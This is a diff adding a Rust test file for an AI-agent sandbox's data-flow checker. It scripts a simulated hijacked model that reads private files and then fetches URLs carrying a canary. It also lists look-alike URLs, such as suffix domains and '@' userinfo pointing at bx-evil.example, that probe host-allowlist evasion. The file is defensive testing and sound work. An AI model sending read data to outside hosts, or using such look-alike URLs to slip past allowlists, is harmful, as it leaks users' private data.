@@ -1,0 +1,296 @@
+//! The plan, the script and the comparison, without a stack (the stack tests play them:
+//! tests/stack/tests/stack/verify_hostile.rs).
+
+use std::collections::BTreeSet;
+use std::path::PathBuf;
+
+use proto::flows::{Flow, FlowsReport, Severity, Step};
+use proto::{CallId, DataClass, DenyReason, Grant, Hash32, ToolResponse};
+
+use super::chains::{self, Chain};
+use super::compare::{self, Outcome};
+use super::rewrite::Rewritten;
+use super::session::Seen;
+
+fn grant(text: &str) -> Grant {
+    proto::from_toml(text).expect("grant")
+}
+
+/// Two paths read, one fetch grant with an exact and a wildcard host, a job's fetch and a
+/// denying fetch (neither a sink of an ordinary session's chain).
+fn rewritten() -> Rewritten {
+    let mut r = Rewritten::default();
+    r.grants.insert(
+        "notes".into(),
+        grant("tool = \"read_file\"\nmode = \"auto\"\nmax_taint = \"secret\"\n"),
+    );
+    r.grants.insert(
+        "ls".into(),
+        grant("tool = \"list_dir\"\nmode = \"auto\"\nmax_taint = \"secret\"\n"),
+    );
+    r.grants.insert(
+        "web".into(),
+        grant(
+            "tool = \"http_fetch\"\nmode = \"auto\"\nmax_taint = \"private\"\n\
+             [constraints]\nhosts = [\"api.example.org\", \"*.wikipedia.org\"]\n",
+        ),
+    );
+    r.grants.insert(
+        "brief-web".into(),
+        grant(
+            "tool = \"http_fetch\"\nmode = \"auto\"\nmax_taint = \"private\"\njob = \"brief\"\n\
+             [constraints]\nhosts = [\"news.example.org\"]\n",
+        ),
+    );
+    r.grants.insert(
+        "no-web".into(),
+        grant(
+            "tool = \"http_fetch\"\nmode = \"deny\"\nmax_taint = \"secret\"\n\
+             [constraints]\nhosts = [\"evil.example\"]\n",
+        ),
+    );
+    r.paths.insert(
+        "/home/owner/notes".into(),
+        (PathBuf::from("/s/tree/home/owner/notes"), false),
+    );
+    r.paths.insert(
+        "/home/owner/todo.md".into(),
+        (PathBuf::from("/s/tree/home/owner/todo.md"), true),
+    );
+    r
+}
+
+/// Every read of every granted path (a file only read, a directory read and listed) goes
+/// to every host of every ordinary allowing fetch grant (a wildcard as a name below it);
+/// the look-alikes of each named entry follow, from the first read.
+#[test]
+fn the_plan_pairs_every_read_with_every_host() {
+    let plan = chains::plan(&rewritten(), 4321, "n0");
+    let got: Vec<(&str, &str, &str)> = plan
+        .iter()
+        .map(|c| (c.source.tool, c.source.path.as_str(), c.url.as_str()))
+        .collect();
+    let notes = "/s/tree/home/owner/notes";
+    let read = "/s/tree/home/owner/notes/bxcanary.txt";
+    let todo = "/s/tree/home/owner/todo.md";
+    let api = |n: usize| format!("http://api.example.org:4321/bx?c=BXCANARY-n0-{n}");
+    let wiki = |n: usize| format!("http://bxhostile.wikipedia.org:4321/bx?c=BXCANARY-n0-{n}");
+    let expected = [
+        ("read_file", read, api(1)),
+        ("read_file", read, wiki(2)),
+        ("list_dir", notes, api(3)),
+        ("list_dir", notes, wiki(4)),
+        ("read_file", todo, api(5)),
+        ("read_file", todo, wiki(6)),
+        (
+            "read_file",
+            read,
+            "http://api.example.org.bx-evil.example:4321/bx?c=BXCANARY-n0-7".into(),
+        ),
+        (
+            "read_file",
+            read,
+            "http://bxapi.example.org:4321/bx?c=BXCANARY-n0-8".into(),
+        ),
+        (
+            "read_file",
+            read,
+            "http://api.example.org:4321@bx-evil.example:4321/bx?c=BXCANARY-n0-9".into(),
+        ),
+        (
+            "read_file",
+            read,
+            "http://bxhostile.wikipedia.org.bx-evil.example:4321/bx?c=BXCANARY-n0-10".into(),
+        ),
+        (
+            "read_file",
+            read,
+            "http://bxwikipedia.org:4321/bx?c=BXCANARY-n0-11".into(),
+        ),
+        (
+            "read_file",
+            read,
+            "http://bxhostile.wikipedia.org:4321@bx-evil.example:4321/bx?c=BXCANARY-n0-12".into(),
+        ),
+    ];
+    let expected: Vec<(&str, &str, &str)> = expected
+        .iter()
+        .map(|(t, p, u)| (*t, *p, u.as_str()))
+        .collect();
+    assert_eq!(got, expected);
+    assert!(plan.iter().all(|c| c.sink.grant == "web"));
+    assert_eq!(plan[6].sink.lookalike, Some("suffix"));
+}
+
+/// The script: per chain the fetch (once the read's result holds the canary) before the
+/// read, each once; the canary never in the read's arguments; the fake server checks it.
+#[test]
+fn the_script_reads_then_sends_the_canary() {
+    let plan = chains::plan(&rewritten(), 4321, "n0");
+    let text = chains::script(&plan).expect("script");
+    let v: toml::Value = toml::from_str(&text).expect("toml");
+    let rules = v["rule"].as_array().expect("rules");
+    assert_eq!(rules.len(), 2 * plan.len());
+    let sink = &rules[0];
+    assert_eq!(sink["max_uses"].as_integer(), Some(1));
+    assert_eq!(
+        sink["match"]["user_contains"].as_str(),
+        Some("[bxhostile chain 1]")
+    );
+    assert_eq!(
+        sink["match"]["tool_result_contains"].as_str(),
+        Some("BXCANARY-n0-1")
+    );
+    let call = &sink["answer"]["tool_calls"][0];
+    assert_eq!(call["name"].as_str(), Some("http_fetch"));
+    assert_eq!(
+        call["arguments"].as_str(),
+        Some("{\"url\":\"http://api.example.org:4321/bx?c=BXCANARY-n0-1\"}")
+    );
+    let source = &rules[1];
+    assert!(source["match"].get("tool_result_contains").is_none());
+    let args = source["answer"]["tool_calls"][0]["arguments"]
+        .as_str()
+        .expect("args");
+    assert_eq!(args, "{\"path\":\"/s/tree/home/owner/notes/bxcanary.txt\"}");
+    assert!(
+        rules
+            .iter()
+            .skip(1)
+            .step_by(2)
+            .all(|r| !r.to_string().contains("BXCANARY"))
+    );
+    assert_eq!(v["default"]["text"].as_str(), Some("done"));
+    // "[bxhostile chain 1]" is no part of chain 10's tag.
+    assert!(!plan[9].message().contains(&plan[0].tag()));
+}
+
+fn seen(call: u64, tool: &str, response: ToolResponse) -> Seen {
+    Seen {
+        call: CallId(call),
+        tool: tool.into(),
+        asked: false,
+        response: Some(response),
+    }
+}
+
+fn read_ok(class: DataClass) -> Option<(Option<String>, Seen)> {
+    let r = ToolResponse::Result {
+        content: "BXCANARY".into(),
+        class,
+        untrusted: false,
+        truncated: false,
+    };
+    Some((Some("notes".into()), seen(1, "read_file", r)))
+}
+
+fn fetched() -> Option<(Option<String>, Seen)> {
+    let r = ToolResponse::Result {
+        content: "BXSINK-OK".into(),
+        class: DataClass::Public,
+        untrusted: true,
+        truncated: false,
+    };
+    Some((Some("web".into()), seen(2, "http_fetch", r)))
+}
+
+fn flow() -> Flow {
+    let step = |g: &str, tool: &str, what: &str| Step {
+        grant: Some(g.into()),
+        tool: tool.into(),
+        what: what.into(),
+    };
+    Flow {
+        severity: Severity::PrivateOut,
+        job: None,
+        source: step("notes", "read_file", "/home/owner/notes"),
+        class: DataClass::Private,
+        untrusted: false,
+        sink: step("web", "http_fetch", "api.example.org"),
+        text: "a hijacked model can read /home/owner/notes".into(),
+    }
+}
+
+fn report(flows: Vec<Flow>) -> FlowsReport {
+    FlowsReport {
+        snapshot: Hash32::ZERO,
+        grants: vec!["notes".into(), "web".into()],
+        flows,
+    }
+}
+
+fn levels(chains: &[(Chain, Outcome)], r: &FlowsReport) -> Vec<(String, String)> {
+    compare::checks(chains, r, &[], &BTreeSet::new())
+        .into_iter()
+        .map(|c| (c.check, format!("{:?}", c.level)))
+        .collect()
+}
+
+fn pair(v: &[(&str, &str)]) -> Vec<(String, String)> {
+    v.iter().map(|(a, b)| ((*a).into(), (*b).into())).collect()
+}
+
+/// A leak agrees with a reported flow; a leak the report lacks, a reported flow no chain
+/// completed, and a look-alike at the sink each fail; public data at the sink is no flow.
+#[test]
+fn the_comparison_fails_on_each_disagreement() {
+    let plan = chains::plan(&rewritten(), 1, "n0");
+    let leak = Outcome {
+        source: read_ok(DataClass::Private),
+        sink: fetched(),
+        at_sink: true,
+    };
+    let one = vec![(plan[0].clone(), leak.clone())];
+    assert_eq!(
+        levels(&one, &report(vec![flow()])),
+        pair(&[("chain 1", "Ok"), ("private_out", "Ok")])
+    );
+    // Dropped from the report: the leak is unreported.
+    assert_eq!(levels(&one, &report(vec![])), pair(&[("chain 1", "Fail")]));
+    // Added to the report, while the fetch was denied.
+    let denied = Outcome {
+        sink: Some((
+            Some("web".into()),
+            seen(
+                2,
+                "http_fetch",
+                ToolResponse::Denied {
+                    reason: DenyReason::TaintTooHigh,
+                    detail: None,
+                },
+            ),
+        )),
+        at_sink: false,
+        ..leak.clone()
+    };
+    let stopped = vec![(plan[0].clone(), denied)];
+    assert_eq!(
+        levels(&stopped, &report(vec![flow()])),
+        pair(&[("chain 1", "Ok"), ("private_out", "Fail")])
+    );
+    // Public data at the sink: no flow to report.
+    let public = Outcome {
+        source: read_ok(DataClass::Public),
+        ..leak.clone()
+    };
+    assert_eq!(
+        levels(&[(plan[0].clone(), public)], &report(vec![])),
+        pair(&[("chain 1", "Ok")])
+    );
+    // A look-alike's canary at the sink fails, whatever the report says.
+    let lookalike = plan
+        .iter()
+        .find(|c| c.sink.lookalike.is_some())
+        .expect("look-alike");
+    assert_eq!(
+        levels(&[(lookalike.clone(), leak)], &report(vec![flow()])),
+        pair(&[("chain 7", "Fail"), ("private_out", "Fail")])
+    );
+    // A flow the shadow cannot play is a warn, never passed.
+    let mut job = flow();
+    job.job = Some(proto::JobName::new("brief").expect("job"));
+    assert_eq!(
+        levels(&[], &report(vec![job])),
+        pair(&[("private_out", "Warn")])
+    );
+}
